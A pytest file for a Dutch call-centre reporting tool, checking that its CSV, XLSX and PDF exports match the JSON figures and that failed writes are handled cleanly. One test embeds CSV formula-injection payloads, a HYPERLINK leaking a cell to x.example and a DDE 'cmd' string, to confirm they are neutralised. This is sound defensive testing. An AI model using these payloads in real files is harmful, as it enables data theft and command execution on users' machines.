"""The report's CSV, XLSX and PDF forms hold the JSON's figures; the command's arguments."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import openpyxl
import pytest
from reporting_scenario import SEPTEMBER, build_scenario

from app.cli import main
from app.services import report_export
from app.services.context import AppContext
from app.services.reporting import Report, compute_report
from app.services.safe_output import DUTCH_CSV, ENGLISH_CSV


@pytest.fixture
def scenario(ctx: AppContext) -> dict[str, int]:
    return build_scenario(ctx)


def _url(ctx: AppContext) -> str:
    return ctx.db.engine.url.render_as_string(hide_password=False)


def _cell(value: str) -> object:
    """A CSV cell back as the JSON value it came from."""
    if value == "":
        return None
    for kind in (int, float):
        try:
            return kind(value)  # read_csv_sections gives decimal points back
        except ValueError:
            continue
    return value


def test_csv_holds_the_same_figures(ctx: AppContext, scenario: dict[str, int]) -> None:
    report = compute_report(ctx, *SEPTEMBER)
    data = report.to_json()
    sections = report_export.read_csv_sections(report_export.to_csv_text(report))
    assert set(sections) == {
        "totaal",
        "wijk",
        "tijdvak",
        "kanaal",
        "teruggebeld",
        "beller",
        "coach",
    }
    total = {k: _cell(v) for k, v in sections["totaal"][0].items()}
    assert total == {
        "from": "2026-09-01",
        "to": "2026-09-30",
        **data["total"],
        "signals": 19,
        "attempts": 23,
        "contacts": 11,
    }
    assert [{k: _cell(v) for k, v in row.items()} for row in sections["wijk"]] == data["by_wijk"]
    assert [{k: _cell(v) for k, v in r.items()} for r in sections["tijdvak"]] == data["by_slot"]
    assert [{k: _cell(v) for k, v in r.items()} for r in sections["kanaal"]] == data["by_channel"]
    assert [{k: _cell(v) for k, v in r.items()} for r in sections["beller"]] == data["by_agent"]
    assert {k: _cell(v) for k, v in sections["coach"][0].items()} == data["coach_first_contact"]


def test_xlsx_holds_the_same_figures(
    ctx: AppContext, scenario: dict[str, int], tmp_path: Path
) -> None:
    report = compute_report(ctx, *SEPTEMBER)
    data = report.to_json()
    target = tmp_path / "rapport.xlsx"
    report_export.write_xlsx(report, target)
    sheets = report_export.read_xlsx_sections(target)
    assert list(sheets) == [
        "Totaal",
        "Per wijk",
        "Per tijdvak",
        "Per kanaal",
        "Teruggebeld",
        "Per beller",
        "Coaches",
    ]
    assert sheets["Per kanaal"] == data["by_channel"]
    assert sheets["Per wijk"] == data["by_wijk"]
    assert sheets["Per tijdvak"] == data["by_slot"]
    assert sheets["Per beller"] == data["by_agent"]
    assert sheets["Coaches"] == [data["coach_first_contact"]]
    total = sheets["Totaal"][0]
    assert {k: total[k] for k in data["total"]} == data["total"]
    assert (total["from"], total["to"], total["signals"]) == ("2026-09-01", "2026-09-30", 19)


def test_report_command_json_csv_xlsx_and_errors(
    ctx: AppContext,
    scenario: dict[str, int],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    base = ["--db", _url(ctx), "report", "--from", "2026-09-01", "--to", "2026-09-30"]
    monkeypatch.setenv("LANG", "nl_NL.UTF-8")
    monkeypatch.delenv("LC_ALL", raising=False)
    monkeypatch.delenv("LC_MESSAGES", raising=False)
    assert main(base) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed == compute_report(ctx, *SEPTEMBER).to_json()
    assert printed["total"]["reach_pct"] == 62.5

    assert main([*base, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert text.startswith("section;from;to;cases;")  # Dutch: `;` and a decimal comma
    assert ";62,5;" in text
    assert report_export.read_csv_sections(text)["wijk"][0]["wijk"] == "Europawijk"
    assert main(["--lang", "en", *base, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert text.startswith("section,from,to,cases,") and ",62.5," in text
    monkeypatch.setenv("LANG", "en_GB.UTF-8")
    assert main([*base, "--format", "csv"]) == 0
    assert capsys.readouterr().out == text

    out = tmp_path / "r.json"
    assert main([*base, "-o", str(out)]) == 0
    assert json.loads(out.read_text("utf-8")) == printed
    assert main([*base, "--format", "xlsx", "-o", str(tmp_path / "r.xlsx")]) == 0
    assert (tmp_path / "r.xlsx").stat().st_size > 0
    capsys.readouterr()

    for args in (
        [*base, "--format", "xlsx"],  # no -o
        [*base, "--format", "pdf"],
        ["--db", _url(ctx), "report", "--from", "2026-02-30"],
        ["--db", _url(ctx), "report", "--to", "gisteren"],
        ["--db", _url(ctx), "report", "--from", "2026-09-30", "--to", "2026-09-01"],
        [*base, "-o", str(tmp_path / "no-such-dir" / "r.json")],
    ):
        assert main(args) == 2, args
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "Traceback" not in err, err


@pytest.mark.ui
def test_pdf_is_written(ctx: AppContext, scenario: dict[str, int], tmp_path: Path) -> None:
    from app.ui.report_pdf import write_report_pdf

    target = tmp_path / "rapport.pdf"
    write_report_pdf(compute_report(ctx, *SEPTEMBER), target)
    content = target.read_bytes()
    assert content.startswith(b"%PDF") and len(content) > 5_000
    empty = tmp_path / "leeg.pdf"
    from datetime import date

    write_report_pdf(compute_report(ctx, date(2020, 1, 1), date(2020, 1, 31)), empty)
    assert empty.read_bytes().startswith(b"%PDF")


@pytest.mark.ui
def test_pdf_command(ctx: AppContext, scenario: dict[str, int], tmp_path: Path) -> None:
    target = tmp_path / "rapport.pdf"
    args = ["--db", _url(ctx), "report", "--format", "pdf", "-o", str(target)]
    assert main(args) == 0
    assert target.read_bytes().startswith(b"%PDF")


HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"klik")'


def _hostile(report: Report) -> Report:
    """The report with a wijk and an agent named like a formula (issue 16)."""
    wijk = dataclasses.replace(report.by_wijk[0], wijk=HOSTILE)
    agent = dataclasses.replace(report.by_agent[0], agent="=cmd|' /C calc'!A0")
    return dataclasses.replace(
        report, by_wijk=(wijk, *report.by_wijk[1:]), by_agent=(agent, *report.by_agent[1:])
    )


def test_csv_and_xlsx_neutralise_formulas(
    ctx: AppContext, scenario: dict[str, int], tmp_path: Path
) -> None:
    report = _hostile(compute_report(ctx, *SEPTEMBER))
    for dialect in (DUTCH_CSV, ENGLISH_CSV):
        rows = list(
            csv.reader(
                io.StringIO(report_export.to_csv_text(report, dialect)),
                delimiter=dialect.delimiter,
            )
        )
        cells = [c for row in rows for c in row]
        assert "'" + HOSTILE in cells and "'=cmd|' /C calc'!A0" in cells
        assert not any(c.startswith(("=", "+", "@")) for c in cells)
    target = tmp_path / "r.xlsx"
    report_export.write_xlsx(report, target)
    workbook = openpyxl.load_workbook(target)
    wijk_cell = workbook["Per wijk"]["A2"]
    assert wijk_cell.value == "'" + HOSTILE and wijk_cell.data_type == "s"
    assert workbook["Per beller"]["A2"].value == "'=cmd|' /C calc'!A0"
    formulas = [
        c.coordinate
        for ws in workbook.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []


def test_xlsx_has_one_header_row_and_the_keys_in_a_legend(
    ctx: AppContext, scenario: dict[str, int], tmp_path: Path
) -> None:
    report = compute_report(ctx, *SEPTEMBER)
    target = tmp_path / "r.xlsx"
    report_export.write_xlsx(report, target)
    workbook = openpyxl.load_workbook(target)
    wijk = workbook["Per wijk"]
    assert [c.value for c in wijk[1]] == list(report_export.WIJK_HEADERS)
    # Row 2 is the first wijk, not a row of English codes.
    assert wijk["A2"].value == report.by_wijk[0].wijk
    assert wijk.freeze_panes == "A2"
    legend = [tuple(r) for r in workbook["Toelichting"].iter_rows(values_only=True)]
    assert ("Per wijk", "Bereik %", "reach_pct") in legend
    assert workbook.sheetnames[-1] == "Toelichting"


def test_report_to_an_unwritable_path_changes_and_audits_nothing(
    ctx: AppContext,
    scenario: dict[str, int],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Issue 16: a report written to an unwritable path was still audited; a full disk while
    writing the XLSX ended in a traceback and left a partial file."""
    import errno

    from sqlalchemy import func, select

    from app.models import AuditEvent

    def audits() -> int:
        with ctx.db.read() as session:
            return session.scalar(select(func.count()).select_from(AuditEvent)) or 0

    base = ["--db", _url(ctx), "report", "--from", "2026-09-01", "--to", "2026-09-30"]
    before = audits()
    folder = tmp_path / "rapport.xlsx"
    folder.mkdir()
    assert main([*base, "--format", "xlsx", "-o", str(folder)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "map" in err and "Traceback" not in err
    assert audits() == before

    out_dir = tmp_path / "out"
    out_dir.mkdir()

    def disk_full(report: Report, path: Path) -> None:
        path.write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(report_export, "write_xlsx", disk_full)
    target = out_dir / "r.xlsx"
    assert main([*base, "--format", "xlsx", "-o", str(target)]) == 2
    err = capsys.readouterr().err
    assert (
        err == f"vroegbel: Het bestand '{target}' kan niet worden geschreven: de schijf is vol.\n"
    )
    assert list(out_dir.iterdir()) == []  # no partial file, no temporary file
    with ctx.db.read() as session:
        kinds = list(session.scalars(select(AuditEvent.kind).order_by(AuditEvent.id)))
    assert "report_export" not in kinds[before:]

    monkeypatch.undo()
    assert main([*base, "--format", "xlsx", "-o", str(target)]) == 0
    capsys.readouterr()
    with ctx.db.read() as session:
        kinds = list(session.scalars(select(AuditEvent.kind).order_by(AuditEvent.id)))
    assert kinds[-1] == "report_export"


def test_pdf_slot_names_come_from_the_one_table() -> None:
    """The PDF's slot rows and the plan preview name the slots from planning.SLOT_LABELS."""
    from app.ui import report_pdf

    assert report_pdf._SLOT_NAMES == {
        "morning": "Ochtend",
        "afternoon": "Middag",
        "evening": "Avond",
        "saturday": "Zaterdag",
    }
